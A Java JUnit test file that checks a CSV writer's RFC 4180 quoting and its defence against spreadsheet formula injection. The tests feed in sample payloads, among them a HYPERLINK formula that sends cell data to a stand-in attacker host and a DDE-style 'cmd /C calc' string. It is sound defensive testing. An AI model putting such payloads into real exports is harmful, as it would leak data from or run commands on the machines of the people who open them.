package org.sextant.engine.exchange;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

/** RFC 4180 quoting: exactly the cells with a comma, a quote, CR or LF are quoted. */
class CsvWriterTest {
    @Test
    void quotesCommaQuoteAndLineBreaksAndNothingElse() {
        assertEquals("plain", CsvWriter.cell("plain"));
        assertEquals("\"a,b\"", CsvWriter.cell("a,b"));
        assertEquals("\"say \"\"hi\"\"\"", CsvWriter.cell("say \"hi\""));
        assertEquals("\"one\ntwo\"", CsvWriter.cell("one\ntwo"));
        assertEquals("\"one\rtwo\"", CsvWriter.cell("one\rtwo"));
        assertEquals("'single' ; tab\t", CsvWriter.cell("'single' ; tab\t"));
    }

    /** A text a spreadsheet would run as a formula (attack 31 F1) opens as that text: a leading ' and numbers left as numbers. */
    @Test
    void aTextStartingAsAFormulaIsWrittenWithALeadingQuoteANumberIsNot() {
        assertEquals("'=A1", CsvWriter.cell("=A1"));
        assertEquals("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"click\"\")\"",
                CsvWriter.cell("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")"));
        assertEquals("'+cmd", CsvWriter.cell("+cmd"));
        assertEquals("'-2-3", CsvWriter.cell("-2-3"));
        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", CsvWriter.cell("@SUM(1+1)*cmd|' /C calc'!A0"));
        assertEquals("'\tx", CsvWriter.cell("\tx"));
        assertEquals("\"'\rx\"", CsvWriter.cell("\rx"));
        for (String n : List.of("-2.5", "+3", "-1e-5", "-.5", "-Infinity", "2024-01-02", "a=b")) assertEquals(n, CsvWriter.cell(n), n);
        assertEquals("x,'=1+1,-2.5\n", CsvWriter.table(List.of("x", "=1+1", -2.5), List.of(), CsvWriter.LF));
    }

    @Test
    void aTableHasItsHeaderQuotedTooNullsEmptyAndTheAskedLineEnd() {
        List<List<?>> rows = List.of(Arrays.asList("IBM", 1.5, null), List.of("K,O", 2, "x\"y"));
        assertEquals("symbol,\"n,1\",note\r\nIBM,1.5,\r\n\"K,O\",2,\"x\"\"y\"\r\n",
                CsvWriter.table(List.of("symbol", "n,1", "note"), rows, CsvWriter.CRLF));
        assertEquals("a\n1\n", CsvWriter.table(List.of("a"), List.of(List.of(1)), CsvWriter.LF));
    }
}
